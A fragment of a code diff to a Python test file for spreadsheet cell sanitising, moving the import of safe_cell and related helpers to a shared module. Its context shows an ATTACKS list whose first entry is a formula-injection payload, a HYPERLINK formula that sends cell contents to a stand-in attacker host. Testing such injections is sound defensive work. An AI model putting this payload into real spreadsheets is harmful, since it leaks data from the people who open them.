@@ -8,7 +8,7 @@ from xml.etree import ElementTree as ET
 
 import pytest
 
-from services.tickets.application.spreadsheets import LONGEST_CELL, safe_cell, sheet_in
+from shared.spreadsheets import LONGEST_CELL, safe_cell, sheet_in
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?"&A1,"open")',
